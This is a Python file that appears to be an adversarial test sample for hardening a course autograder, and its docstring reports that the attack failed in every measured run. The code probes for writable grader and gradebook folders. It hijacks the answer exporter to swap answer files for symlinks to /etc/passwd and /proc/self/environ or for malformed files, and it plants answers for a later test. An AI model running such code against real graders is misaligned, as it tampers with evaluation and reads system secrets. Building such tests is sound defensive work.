"""Writing files the grader reads: the course folders, the gradebook, the answers' export.

The cheat tries to write where the grader reads:

1. every folder above its working directory (the grader's own folders, the course's
   ``autograded/``, ``feedback/``, ``submitted/``), and any ``gradebook.db`` it can see: it
   creates ``LEARNER-WROTE-HERE.txt`` files and opens the gradebook for writing;
2. the folder the grader exports answers to: it wraps the exporter that runs in its kernel
   (``clearlib.course._answers.export_answers``) so that, after the real export, every answer's
   file is replaced by a symbolic link to another file (``/etc/passwd``, the gradebook, the
   source notebook, if it can guess where they are) or by a malformed file (JSON of the wrong
   shape, an Arrow file that is not Arrow), and a file named for an answer of the *next* test
   cell is planted beside them.

Today's grader: 0 of 18 on week 02 (measured; the writes fail: the sandbox hides the course and
only the learner's own folder is writable). Trusted grader: 0 of 18 on week 02 and 0 of 3 on
the tiny fixture (measured): it reads only regular files, without following links, of the
declared names, with strict readers (``is not defined``, ``could not be read``).
"""

import json
import os
from pathlib import Path

ANSWERS: dict[str, str] = {}  # the week's declared answers, name -> kind (filled in by the corpus)

wrote = []
_folder = Path.cwd()
for _parent in [_folder, *_folder.parents]:
    for _name in (
        "LEARNER-WROTE-HERE.txt",
        "autograded/LEARNER-WROTE-HERE.txt",
        "feedback/LEARNER-WROTE-HERE.txt",
        "gradebook.db",
    ):
        _path = _parent / _name
        if _parent == _folder and _name == "LEARNER-WROTE-HERE.txt":
            continue  # the learner's own folder is writable by design
        try:
            with open(_path, "a") as _f:
                _f.write("")
            if _name != "gradebook.db" or _path.stat().st_size > 0:
                wrote.append(str(_path))
            if _name == "gradebook.db" and _path.stat().st_size == 0:
                _path.unlink()  # it did not exist: leave nothing behind
        except OSError:
            pass
print(f"wrote in {len(wrote)} places outside the learner's folder: {wrote[:5]}")

_TARGETS = [
    "/etc/passwd",
    "/proc/self/environ",
    *[str(p / "gradebook.db") for p in _folder.parents],
]

try:
    import clearlib.course._answers as _answers

    _real_export = _answers.export_answers

    def export_answers(namespace, folder, spec, tag):
        _real_export(namespace, folder, spec, tag)
        out = Path(folder)
        for i, (name, kind, _optional) in enumerate(spec):
            for suffix in (".json", ".arrow", ".npy", ".plotly.json"):
                path = out / f"{name}{suffix}"
                try:
                    if path.exists() or path.is_symlink():
                        path.unlink()
                    if i % 2 == 0:
                        os.symlink(_TARGETS[i % len(_TARGETS)], path)
                    elif suffix == ".json":
                        path.write_text(json.dumps({"kind": kind, "value": {"py": "os.system"}}))
                    else:
                        path.write_bytes(b"ARROW1\x00\x00not really arrow")
                except OSError:
                    pass
        for name in ANSWERS:  # an answer planted for a later test cell
            (out.parent / "next" / f"{name}.json").parent.mkdir(parents=True, exist_ok=True)
            (out.parent / "next" / f"{name}.json").write_text(
                json.dumps({"kind": "number", "value": 1})
            )

    _answers.export_answers = export_answers
except ImportError:
    pass
